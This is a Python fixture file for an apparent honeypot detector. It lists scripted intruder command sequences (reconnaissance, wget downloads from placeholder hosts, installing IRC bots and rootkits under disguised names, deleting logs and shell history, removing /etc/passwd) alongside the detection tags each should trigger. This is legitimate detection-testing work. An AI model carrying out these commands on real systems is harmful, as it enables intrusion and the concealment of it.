"""Named command scripts for intruder visits, one per observed activity."""
from __future__ import annotations

import posixpath
import shlex

SCRIPTS: dict[str, list[str]] = {
    "recon": ["w", "uname -a", "ps aux"],
    "short": ["w"],
    "cpuinfo": ["cat /proc/cpuinfo"],
    "vm_probe": ["dmesg | grep -i vmware", "lspci"],
    "wget_fail": ["cd /tmp", "wget http://files.example.net/pscan.tgz"],
    "wget_retry": ["wget http://files.example.net/emech.tgz", "wget http://files.example.net/emech.tgz"],
    "connectivity": ["wget http://drivers.example.com/driver.bin"],
    "scan": ["cd /dev/shm", "inband-get pscan.tgz", "tar xzf pscan.tgz", "./pscan 203.0.113"],
    "scan_home": ["inband-get pscan.tgz", "tar xzf pscan.tgz", "./pscan 203.0.113"],
    "ircbot": ["cd /var/tmp", "inband-get emech.tgz", "tar xzf emech.tgz", "mv emech crond", "./crond"],
    "psybnc": ["cd /tmp", "inband-get psybnc.tgz", "tar xzf psybnc.tgz", "mv psybnc inetd", "./inetd"],
    "rootkit_a": ["uname -a", "cd /tmp", "inband-get mremap.tgz", "tar xzf mremap.tgz", "./mremap"],
    "rootkit_b": ["cd /tmp", "inband-get ld.tgz", "tar xzf ld.tgz", "./ldroot", "id", "rm -f /var/log/messages"],
    "phish": ["cd /tmp", "inband-get mail.tgz", "tar xzf mail.tgz", "cat list.txt", "./mailer"],
    "cleanup_unset": ["unset HISTFILE"],
    "cleanup_rm": ["rm -f ~/.bash_history"],
    "bait": ["cat /etc/motd", "ssh {bait}"],
    "clueless": ["rm /etc/passwd", "ps aux", "kill 1450"],
    "passwd_look": ["cat /etc/passwd"],
    "exit": ["exit"],
}

# activity tags each script should produce under the default (deny) egress policy
SCRIPT_TAGS: dict[str, tuple[str, ...]] = {
    "cpuinfo": ("FingerprintProbe",),
    "vm_probe": ("FingerprintProbe",),
    "wget_fail": ("DownloadBlocked",),
    "wget_retry": ("DownloadBlocked",),
    "connectivity": ("DownloadBlocked", "ConnectivityProbe"),
    "scan": ("DownloadInBand", "StealthInstall", "SshScan"),
    "scan_home": ("DownloadInBand", "SshScan"),
    "ircbot": ("DownloadInBand", "StealthInstall", "IrcBot"),
    "psybnc": ("DownloadInBand", "StealthInstall", "IrcBot"),
    "rootkit_a": ("DownloadInBand", "StealthInstall", "PrivEscAttempt"),
    "rootkit_b": ("DownloadInBand", "StealthInstall", "PrivEscAttempt", "PrivEscPartial"),
    "phish": ("DownloadInBand", "StealthInstall", "Phishing"),
    "cleanup_unset": ("HistoryCleanup",),
    "cleanup_rm": ("HistoryCleanup",),
    "bait": ("BaitFollowed",),
}


def expected_tags(scripts: list[str], passwd: bool = False) -> list[str]:
    tags = {t for name in scripts for t in SCRIPT_TAGS.get(name, ())}
    if passwd:
        tags.add("PasswordChange")
    return sorted(tags)


def expand(scripts: list[str], bait: str = "10.0.0.23") -> list[str]:
    out = []
    for name in scripts:
        if name not in SCRIPTS:
            raise KeyError(name)
        out.extend(c.replace("{bait}", bait) for c in SCRIPTS[name])
    return out


def referenced_fixtures(command: str) -> list[str]:
    """Fixture names a command line asks for (downloads and ./ executions)."""
    names = []
    try:
        words = shlex.split(command)
    except ValueError:
        return names
    for i, w in enumerate(words):
        if w in ("wget", "inband-get") and i + 1 < len(words):
            target = next((a for a in words[i + 1:] if not a.startswith("-")), None)
            if target:
                names.append(posixpath.basename(target.split("://", 1)[-1]))
    return names
